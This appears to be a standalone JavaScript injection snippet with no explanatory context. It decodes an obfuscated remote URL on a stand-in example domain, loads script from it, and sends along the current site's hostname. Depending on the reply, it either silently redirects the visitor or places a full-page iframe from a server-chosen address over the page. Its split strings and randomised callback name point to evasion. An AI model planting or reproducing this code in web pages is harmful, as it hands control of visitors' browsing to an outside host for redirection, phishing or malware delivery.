var cbn = "cb" + (+new Date()).toString(36);
window[cbn] = function (o) {
  delete window[cbn];
  if (!o || o.s === 404) { return; }
  if (o.t === 1) { document.location["re" + "place"](o.u); }
  if (o.t === 2) { var f = document.createElement("iframe"); f.src = o.u; f.width = "100%"; f.height = innerHeight; document.body.insertBefore(f, document.body.firstChild); }
};
(function (u) {
  var j = document.createElement("script");
  j.src = u.replace(/[!*]/g, function (c) { return c === "!" ? "/" : "."; }) + "?cb=" + cbn + "&h=" + location.hostname;
  (document.head || document.body).appendChild(j);
})("https:!!melon-porch*example!track");
